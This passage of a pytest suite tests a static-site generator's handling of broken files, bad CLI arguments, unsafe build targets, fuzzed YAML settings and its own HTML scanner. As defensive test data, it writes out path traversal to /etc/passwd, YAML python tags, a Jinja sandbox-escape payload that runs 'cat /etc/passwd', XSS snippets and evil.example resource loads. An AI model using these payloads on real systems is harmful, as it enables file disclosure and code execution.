    return ("content/sv/slinga.md", None)


def _two_link_loop(env: Env) -> Where:
    env.link("content/sv/a.md", "b.md")
    env.link("content/sv/b.md", "a.md")
    return ("content/sv/a.md", None)


def _link_to_folder(env: Env) -> Where:
    env.link("content/sv/mapp.md", env.root / "content" / "en")
    return ("content/sv/mapp.md", None)


def _folder_named_md(env: Env) -> Where:
    (env.root / "content" / "sv" / "mapp.md").mkdir()
    (env.root / "content" / "sv" / "mapp.md" / "index.md").write_text(HEAD + "x\n", encoding="utf-8")
    return ("content/sv/mapp.md", None)


def _not_utf8(env: Env) -> Where:
    env.write("content/sv/latin1.md", HEAD.encode() + "Välkommen\n".encode("latin-1"))
    return ("content/sv/latin1.md", None)


def _bom_and_crlf_binary(env: Env) -> Where:
    env.write("content/sv/skrap.md", b"\xef\xbb\xbf---\r\ntitle: \xff\xfe\r\n---\r\n")
    return ("content/sv/skrap.md", None)


BROKEN_FILES = [_dangling, _self_loop, _two_link_loop, _link_to_folder, _folder_named_md, _not_utf8,
                _bom_and_crlf_binary]


@pytest.mark.parametrize("make", BROKEN_FILES, ids=lambda f: f.__name__.strip("_"))
def test_broken_and_dangling_files_in_content_are_named(env: Env, make: Callable[[Env], Where]) -> None:
    where = make(env)
    check = env.run("check")
    reports(check, where)
    build = judge_build(env, where, may_succeed=True)
    if build.code == 0:
        reports(build, where)


# --- portal serve --------------------------------------------------------------------------------

SERVE = [("port_minus_1", ["--port", "-1"]), ("port_99999", ["--port", "99999"]),
         ("port_65536", ["--port", "65536"]), ("port_not_a_number", ["--port", "abc"]),
         ("host_not_an_address", ["--host", "256.256.256.256", "--port", "0"]),
         ("host_unknown_name", ["--host", "no-such-host.invalid", "--port", "0"])]


@pytest.mark.parametrize("args", [pytest.param(a, id=i) for i, a in SERVE])
def test_serve_refuses_a_bad_address_quickly(env: Env, args: list[str]) -> None:
    fails_cleanly(env.run("serve", *args, timeout=10))


def test_serve_on_a_port_in_use_exits_with_a_message(env: Env) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = env.run("serve", "--port", str(port), timeout=10)
    fails_cleanly(result, mention=str(port))


# --- portal new ------------------------------------------------------------------------------------

# (id, arguments, must be refused)
NEW = [
    ("name_newline", ["a\nb"], True),
    ("name_300_chars", ["a" * 300], True),
    ("name_traversal", ["../../x"], True),
    ("name_traversal_with_translations", ["../x", "--translate"], True),
    ("name_absolute", ["/tmp/portal-hostile-x"], True),
    ("name_empty", [""], True),
    ("name_only_suffix", [".md"], True),
    ("name_dotfile", [".x"], True),
    ("name_existing_page", ["kontakt"], True),
    ("name_existing_start_page", ["index"], True),
    ("name_reserved", ["search"], True),
    ("name_uppercase", ["Kontakt"], False),
    ("name_unicode", ["öppettider"], False),
    ("name_space", ["ny sida"], False),
    ("title_newline", ["ny-sida", "--title", "Rad ett\nRad två"], False),
    ("title_front_matter_injection", ["ny-sida", "--title", "x\n---\nslug: ../../etc"], False),
    ("title_yaml_alias", ["ny-sida", "--title", "*a"], False),
    ("title_yaml_colon", ["ny-sida", "--title", "Hjälp: nu"], False),
    ("title_yaml_tag", ["ny-sida", "--title", "!!python/name:os.system"], False),
    ("title_300_chars", ["ny-sida", "--title", "T" * 300], False),
    ("title_bidi_u202e", ["ny-sida", "--title", "Kon\u202etakt"], True),
    ("title_empty", ["ny-sida", "--title", ""], False),
]


@pytest.mark.parametrize(("args", "refuse"), [pytest.param(a, r, id=i) for i, a, r in NEW])
def test_new_refuses_bad_names_or_writes_a_valid_page(env: Env, args: list[str], refuse: bool) -> None:
    project_before = snapshot(env.root)
    around_before = sorted(p.name for p in env.tmp.iterdir())
    result = env.run("new", *args)
    no_traceback(result)
    assert sorted(p.name for p in env.tmp.iterdir()) == around_before, "created beside the project"
    assert not Path("/tmp/portal-hostile-x.md").exists()
    if result.code != 0:
        fails_cleanly(result)
        assert snapshot(env.root) == project_before, "a refused `new` changed the project"
        return
    assert not refuse, f"`portal new` accepted it:\n{result}"
    after = snapshot(env.root)
    added = sorted(set(after) - set(project_before))
    changed = [rel for rel in project_before if after.get(rel) != project_before[rel]]
    assert not changed, f"`portal new` changed existing files: {changed}"
    pages = [rel for rel in added if after[rel][0] == "file"]
    assert pages and all(re.fullmatch(r"content/[a-z]{2,3}/[a-z0-9-]+\.md", rel) for rel in pages), added
    check = env.run("check", "--format", "json")
    no_traceback(check)
    problems = json.loads(check.output[check.output.index("{"):])["problems"]
    errors = [p for p in problems if p["severity"] == "error" and p["path"] in pages]
    assert not errors, f"`portal new` wrote pages that `portal check` refuses: {errors}"
    if "--title" in args:
        title = args[args.index("--title") + 1]
        if title.strip():
            source = (env.root / pages[0]).read_text(encoding="utf-8")
            assert "\nslug: ../" not in source and source.count("\n---\n") == 1, source


# --- portal translations done ------------------------------------------------------------------

DONE = [("default_language", ["sv", "kontakt"]), ("missing_page", ["en", "finns-inte"]),
        ("unknown_language", ["xx", "kontakt"]), ("traversal", ["en", "../sv/kontakt"]),
        ("absolute_path", ["en", "/etc/passwd"]), ("newline", ["en", "kontakt\nx"]),
        ("empty_page_name", ["en", ""]), ("language_traversal", ["../content", "kontakt"])]


@pytest.mark.parametrize("args", [pytest.param(a, id=i) for i, a in DONE])
def test_translations_done_refuses_what_it_cannot_mark(env: Env, args: list[str]) -> None:
    before = snapshot(env.root)
    fails_cleanly(env.run("translations", "done", *args))
    assert snapshot(env.root) == before


def test_translations_done_writes_the_front_matter_not_a_body_line(env: Env) -> None:
    page = env.root / "content" / "en" / "kontakt.md"
    text = page.read_text(encoding="utf-8")
    body = "\n```yaml\ntranslated_from: 000000000000\n```\n\ntranslated_from: abc\n"
    page.write_text(text + body, encoding="utf-8")
    result = env.run("translations", "done", "en", "kontakt")
    assert result.code == 0, result
    after = page.read_text(encoding="utf-8")
    front, _, rest = after[4:].partition("\n---\n")
    assert after.startswith("---\n") and "translated_from:" in front, after
    assert rest.endswith(body), f"a body line was rewritten:\n{after}"


# --- Templates: check compiles them, build names them -----------------------------------------

def _base_syntax_error(env: Env) -> Where:
    path = env.template("base.html")
    lines = path.read_text(encoding="utf-8").split("\n")
    lines.insert(12, "{% if %}")
    path.write_text("\n".join(lines), encoding="utf-8")
    return ("templates/base.html", {13})


def _base_unclosed_block(env: Env) -> Where:
    path = env.template("base.html")
    lines = path.read_text(encoding="utf-8").split("\n")
    lines.insert(12, "{% if chrome %}")
    path.write_text("\n".join(lines), encoding="utf-8")
    return ("templates/base.html", range(13, len(lines) + 1))  # the if, or where the file ends


def _base_unclosed_expression(env: Env) -> Where:
    path = env.template("base.html")
    text = path.read_text(encoding="utf-8").replace('{{ _("Skip to main content") }}',
                                                    '{{ _("Skip to main content") }')
    path.write_text(text, encoding="utf-8")
    return ("templates/base.html", {13, 14})


def _footer_line(env: Env, new: str, at: int = 9) -> Path:
    path = env.template("components/footer.html")
    lines = path.read_text(encoding="utf-8").split("\n")
    lines.insert(at, new)
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def _footer_runtime_error(env: Env) -> Where:
    _footer_line(env, "<p>{{ nope.attr.x }}</p>")
    return ("templates/components/footer.html", {10})


def _footer_unknown_filter(env: Env) -> Where:
    _footer_line(env, "<p>{{ chrome | nofilter }}</p>")
    return ("templates/components/footer.html", {10})


def _footer_unknown_macro(env: Env) -> Where:
    _footer_line(env, "<p>{{ nomacro(1) }}</p>")
    return ("templates/components/footer.html", {10})


def _footer_include_missing(env: Env) -> Where:
    _footer_line(env, '{% include "components/finns-inte.html" %}')
    return ("templates/components/footer.html", {10})


def _footer_include_etc_passwd(env: Env) -> Where:
    _footer_line(env, '{% include "/etc/passwd" %}')
    return ("templates/components/footer.html", {10})


def _footer_include_traversal(env: Env) -> Where:
    _footer_line(env, '{% include "../../../../../../../../etc/passwd" %}')
    return ("templates/components/footer.html", {10})


def _footer_python_escape(env: Env) -> Where:
    _footer_line(env, "<p>{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}</p>")
    return ("templates/components/footer.html", {10})


def _footer_inline_script(env: Env) -> Where:
    _footer_line(env, "<script>alert(1)</script>")
    return ("templates/components/footer.html", {10})


def _footer_external_image(env: Env) -> Where:
    _footer_line(env, f'<img src="{EVIL_IMG}" alt="">')
    return ("templates/components/footer.html", {10})


def _footer_not_utf8(env: Env) -> Where:
    path = env.template("components/footer.html")
    path.write_bytes(path.read_bytes().replace(b"<footer", b"\xff\xfe<footer", 1))
    return ("templates/components/footer.html", None)


def _footer_infinite_recursion(env: Env) -> Where:
    _footer_line(env, "{% macro deeper(n) %}{{ deeper(n + 1) }}{% endmacro %}{{ deeper(0) }}", at=3)
    return ("templates/components/footer.html", {4})


def _unknown_template_file(env: Env) -> Where:
    (env.root / "templates").mkdir(exist_ok=True)
    (env.root / "templates" / "baes.html").write_text("{% extends 'base.html' %}", encoding="utf-8")
    return ("templates/baes.html", None)


# (make, may the build go ahead)
TEMPLATES = [(_base_syntax_error, False), (_base_unclosed_block, False),
             (_base_unclosed_expression, False), (_footer_runtime_error, False),
             (_footer_unknown_filter, False), (_footer_unknown_macro, False),
             (_footer_include_missing, False), (_footer_include_etc_passwd, False),
             (_footer_include_traversal, False), (_footer_python_escape, False),
             (_footer_inline_script, False), (_footer_external_image, False),
             (_footer_not_utf8, False), (_footer_infinite_recursion, False),
             (_unknown_template_file, True)]


@pytest.mark.parametrize(("make", "harmless"),
                         [pytest.param(m, h, id=m.__name__.strip("_")) for m, h in TEMPLATES])
def test_a_broken_template_is_named_by_check_and_build(env: Env, make: Callable[[Env], Where],
                                                       harmless: bool) -> None:
    where = make(env)
    if harmless:
        reports(env.run("check"), where)
        judge_build(env, where, may_succeed=True)
        return
    check = judge_check(env, where)
    build = judge_build(env, where)
    consistent(check, build)


# --- portal build --out: targets it must refuse --------------------------------------------------

def _out_file(env: Env) -> Path:
    (env.tmp / "en-fil").write_text("keep\n", encoding="utf-8")
    return env.tmp / "en-fil"


def _out_unwritable(env: Env) -> Path:
    if os.geteuid() == 0:  # chmod does not stop root: a place nobody can create a folder in
        return Path("/proc/portal-hostile-out")
    parent = env.tmp / "skrivskyddad"
    parent.mkdir()
    parent.chmod(0o555)
    return parent / "site"


def _out_proc_file(env: Env) -> Path:
    return Path("/proc/self/status")


def _out_sys(env: Env) -> Path:
    return Path("/sys/portal-hostile/site")


def _out_under_a_file(env: Env) -> Path:
    (env.tmp / "en-fil").write_text("keep\n", encoding="utf-8")
    return env.tmp / "en-fil" / "site"


def _out_foreign_folder(env: Env) -> Path:
    (env.tmp / "mitt").mkdir()
    (env.tmp / "mitt" / "behall.txt").write_text("keep\n", encoding="utf-8")
    return env.tmp / "mitt"


def _out_link_to_content(env: Env) -> Path:
    (env.tmp / "genvag").symlink_to(env.root / "content")
    return env.tmp / "genvag"


def _out_previous_build_links_outside(env: Env) -> Path:
    shutil.rmtree(env.out / "en")
    (env.out / "en").symlink_to(env.outside)
    return env.out


def _out_previous_marker_damaged(env: Env) -> Path:
    (env.out / ".portal-build.json").write_bytes(b"{ not json")
    return env.out


# (id, the target)
OUT_TARGETS: list[tuple[str, Callable[[Env], Path | str]]] = [
    ("a_file", _out_file),
    ("unwritable_place", _out_unwritable),
    ("proc_file", _out_proc_file),
    ("sys_folder", _out_sys),
    ("under_a_file", _out_under_a_file),
    ("the_project", lambda env: env.root),
    ("content", lambda env: env.root / "content"),
    ("inside_content", lambda env: env.root / "content" / "sv" / "site"),
    ("static", lambda env: env.root / "static"),
    ("translations", lambda env: env.root / "translations"),
    ("templates", lambda env: env.root / "templates"),
    ("parent_of_the_project", lambda env: env.tmp),
    ("filesystem_root", lambda env: Path("/")),
    ("etc", lambda env: Path("/etc")),
    ("dev_full", lambda env: Path("/dev/full")),
    ("empty_string", lambda env: ""),
    ("foreign_folder", _out_foreign_folder),
    ("link_to_content", _out_link_to_content),
    ("previous_build_links_outside", _out_previous_build_links_outside),
    ("previous_marker_damaged", _out_previous_marker_damaged),
]


@pytest.mark.parametrize("target", [pytest.param(t, id=i) for i, t in OUT_TARGETS])
def test_build_refuses_a_target_it_must_not_write(env: Env, target: Callable[[Env], Path | str]) -> None:
    out = target(env)
    project, outside = snapshot(env.root), snapshot(env.outside)
    around = snapshot(env.tmp / "mitt") if (env.tmp / "mitt").exists() else None
    previous = snapshot(env.out)
    try:
        result = env.run("build", "--out", str(out))
    finally:
        if (env.tmp / "skrivskyddad").exists():
            (env.tmp / "skrivskyddad").chmod(0o755)
    fails_cleanly(result)
    if str(out) not in ("", "/"):
        shown = {str(out), os.path.realpath(out), "/" + Path(out).name}
        assert any(s in result.output for s in shown), f"the message does not name {out}:\n{result}"
    assert snapshot(env.root) == project, "the refused build changed the project"
    assert snapshot(env.outside) == outside, "the refused build changed files outside the project"
    assert snapshot(env.out) == previous, "the refused build changed the previous build"
    if around is not None:
        assert snapshot(env.tmp / "mitt") == around
    leftovers = [p.name for p in env.tmp.iterdir() if p.name.startswith(".") and ".new-" in p.name]
    assert not leftovers, leftovers


def test_two_builds_at_once_leave_one_good_build(env: Env) -> None:
    started = time.monotonic()
    args = ("build", "--out", str(env.out))
    first = start(env.root, *args, cwd=env.tmp)
    second = start(env.root, *args, cwd=env.tmp)
    results = [finish(first, args, started, 120), finish(second, args, started, 120)]
    for result in results:
        no_traceback(result)
        if result.code != 0:
            fails_cleanly(result)
    assert any(r.code == 0 for r in results), "neither build went ahead:\n" + "\n".join(map(str, results))
    again = env.run("build", "--out", str(env.out))
    assert again.code == 0, again
    clean = env.tmp / "clean"
    fresh = env.run("build", "--out", str(clean))
    assert fresh.code == 0, fresh
    built, reference = snapshot(env.out), snapshot(clean)
    built.pop(".portal-build.json", None)
    reference.pop(".portal-build.json", None)
    assert built == reference, "after two builds at once, a rebuild differs from a clean build: " \
        + difference(reference, built)
    leftovers = [p.name for p in env.tmp.iterdir() if re.match(r"\.site\.(new|old)-", p.name)]
    assert not leftovers, leftovers


# --- Files the portal would not publish are named, never skipped silently -------------------------

# (id, the file, what must be named, whether it must be a warning; an error is fine where the
# pages would otherwise be lost without a word)
STRAYS = [("top_level_page", "content/stray.md", "content/stray.md", True),
          ("md_txt", "content/sv/x.md.txt", "content/sv/x.md.txt", True),
          ("upper_case_suffix", "content/sv/X.MD", "content/sv/X.MD", True),
          ("sub_folder", "content/sv/sub/y.md", "content/sv/sub", True),
          ("markdown_suffix", "content/sv/kontakt.markdown", "content/sv/kontakt.markdown", True),
          ("unknown_language_folder", "content/xx/index.md", "content/xx", False),
          ("upper_case_language_folder", "content/SV/index.md", "content/SV", False),
          ("folders_30_deep", "content/sv/" + "/".join("d" * 30) + "/y.md", "content/sv/d", False)]


@pytest.mark.parametrize(("rel", "named", "warning"),
                         [pytest.param(r, n, w, id=i) for i, r, n, w in STRAYS])
def test_a_stray_file_is_a_named_warning(env: Env, rel: str, named: str, warning: bool) -> None:
    env.write(rel, HEAD + "Text.\n")
    result = env.run("check")
    no_traceback(result)
    if warning:
        assert result.code == 0, f"a stray file is a warning, not an error:\n{result}"
        assert any(names(line, named) and "warning" in line for line in result.output.splitlines()), \
            f"{rel} is not named in a warning:\n{result}"
    else:
        reports(result, (named, None))
    strict = env.run("check", "--strict")
    fails_cleanly(strict, (named, None))


# ================================================================================================
# Hypothesis: random damage to site.yml never raises, and every problem names content/site.yml
# ================================================================================================

YAML_FRAGMENTS = ["&a ", "*a", "\t", '"', "'", "{", "}", "[", "]", ":", ": ", "- ", "? ", "#",
                  "!!python/name:os.system ", "!!binary ", "<<: *a", "\x00", "\u202e", "\ufeff",
                  "\u2028", "%YAML 1.1", "---", "...", "|", ">", "~", "null", "yes", "9:00", "1e9",
                  "https://", "\\", "\r", "@", "\x85", "!!set ", "&b [*a, *a, *a]", "$", ";", "\n"]
FIXTURE_SITE = (Path(__file__).resolve().parent / "fixtures" / "small" / "content" / "site.yml"
                ).read_text(encoding="utf-8")
KEY_VALUE = re.compile(r"^(\s*-?\s*[\w-]+:\s*)(\S.*)$")
site_operations = st.lists(
    st.tuples(st.sampled_from(["delete", "duplicate", "insert", "swap_values", "swap_lines", "cut"]),
              st.integers(0, 10**6), st.integers(0, 10**6),
              st.one_of(st.sampled_from(YAML_FRAGMENTS),
                        st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=8))),
    min_size=1, max_size=6)


def mutate_settings(text: str, ops: list[tuple[str, int, int, str]]) -> str:
    lines = text.split("\n")
    for kind, a, b, fragment in ops:
        i, j = a % len(lines), b % len(lines)
        if kind == "delete" and len(lines) > 1:
            del lines[i]
        elif kind == "duplicate":
            lines.insert(i, lines[i])
        elif kind == "insert":
            at = b % (len(lines[i]) + 1)
            lines[i] = lines[i][:at] + fragment + lines[i][at:]
        elif kind == "swap_values":
            x, y = KEY_VALUE.match(lines[i]), KEY_VALUE.match(lines[j])
            if x and y:
                lines[i], lines[j] = x.group(1) + y.group(2), y.group(1) + x.group(2)
        elif kind == "swap_lines":
            lines[i], lines[j] = lines[j], lines[i]
        elif kind == "cut":
            lines[i] = lines[i][: b % (len(lines[i]) + 1)]
    return "\n".join(lines)


@pytest.fixture(scope="module")
def fuzz_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_project(tmp_path_factory.mktemp("fuzz-settings")).root


@fuzz_settings(max_examples=int(os.environ.get("PORTAL_FUZZ_EXAMPLES", "300")), deadline=None,
               suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(ops=site_operations)
def test_random_damage_to_the_settings_names_site_yml_never_raises(
    fuzz_root: Path, ops: list[tuple[str, int, int, str]]
) -> None:
    damaged = mutate_settings(FIXTURE_SITE, ops)
    (fuzz_root / SITE).write_text(damaged, encoding="utf-8")
    started = time.monotonic()
    settings, problems = load_settings(fuzz_root / "content", fuzz_root)
    assert time.monotonic() - started < 5, "loading the settings took over 5 s"
    count = damaged.count("\n") + 1
    for problem in problems:
        assert problem.path == SITE, problem
        assert problem.line is None or 1 <= problem.line <= count + 1, problem
        assert problem.message and "\n" not in problem.message and "\r" not in problem.message, problem
        assert "<unicode string>" not in problem.message, f"a YAML message without the file: {problem}"
        assert len(str(problem)) < 1000, f"a message of {len(str(problem))} characters"
    if settings is None:
        assert any(p.severity == "error" for p in problems), "refused without an error"
        return
    assert not [p for p in problems if p.severity == "error"], problems
    assert re.fullmatch(r"https://[a-z0-9.-]+(:[0-9]{1,5})?/", settings.base_url), settings.base_url
    assert re.fullmatch(r"https://[A-Za-z0-9\-._~:/?=&%+,@!*]+", settings.quick_exit), settings.quick_exit
    texts = [settings.contact.email, settings.contact.address, *settings.municipality.values(),
             *settings.programme.values(), *(lang.name for lang in settings.languages)]
    for text in texts:
        assert isinstance(text, str) and text and not re.search(
            "[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]", text), repr(text)
    assert all(re.fullmatch(r"[a-z]{2,3}", lang.code) and lang.dir in ("ltr", "rtl")
               for lang in settings.languages)
    assert settings.default_language in settings.codes


# ================================================================================================
# The judges can fail: each finds what it is there to find
# ================================================================================================

def test_a_clean_build_passes_the_scanner(good_build: Path) -> None:
    assert scan_build(good_build) == []


@pytest.mark.parametrize("html", [
    f'<img src="{EVIL_IMG}">', '<img src=" //evil.example/x.png">', '<img src="/\\evil.example/x">',
    '<img src="&#104;ttps://evil.example/x.png">', '<img srcset="/a.png 1x, //evil.example/b.png 2x">',
    '<video poster="https://evil.example/p.png"></video>',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<link rel="canonical" href="https://evil.example/">',
    '<p style="background:\\75rl(https://evil.example/a)">',
    "<style>@import 'https://evil.example/a.css';</style>", '<svg><image href="https://evil.example/x"/></svg>',
    '<script>alert(1)</script>', '<p onclick="x()">', '<a href=" javascript:alert(1)">x</a>',
    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<object data="https://evil.example/x"></object>',
])
def test_the_scanner_finds_what_loads_from_elsewhere(tmp_path: Path, html: str) -> None:
    (tmp_path / "index.html").write_text(f"<!doctype html><p>{html}</p>", encoding="utf-8")
    assert scan_build(tmp_path), html


def test_the_scanner_finds_text_from_outside_and_links(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(b"x OUTSIDE-SECRET-1 y")
    (tmp_path / "b").symlink_to("/etc")
    (tmp_path / "_redirects").write_text("/ https://evil.example/ 302\n", encoding="utf-8")
    found = scan_build(tmp_path, [b"OUTSIDE-SECRET-1"])
    assert len(found) == 3, found


def test_the_nginx_judge_finds_an_injected_directive() -> None:
    benign = 'server {\n    root /srv/site;\n    index index.html;\n}\n'
    quoted = 'server {\n    root "/srv/a b;c\\"d";\n    index index.html;\n}\n'
    same_config_but(benign, quoted, "/srv/site", '/srv/a b;c"d')
    injected = 'server {\n    root /srv/a; autoindex on;\n    index index.html;\n}\n'
    with pytest.raises(AssertionError):
        same_config_but(benign, injected, "/srv/site", "/srv/a; autoindex on")
    with pytest.raises(AssertionError):
        same_config_but(benign, 'server {\n    root /srv/x;\n    index index.html;\n}\n',
                        "/srv/site", "/srv/y")


def test_names_wants_the_relative_path_and_the_line() -> None:
    assert names("content/sv/x.md:6: no", "content/sv/x.md", {6})
    assert not names("content/sv/x.md:16: no", "content/sv/x.md", {6})
    assert not names("/tmp/p/content/sv/x.md:6: no", "content/sv/x.md", {6})
    assert not names("content/sv/x.md.txt: warning", "content/sv/x.md")
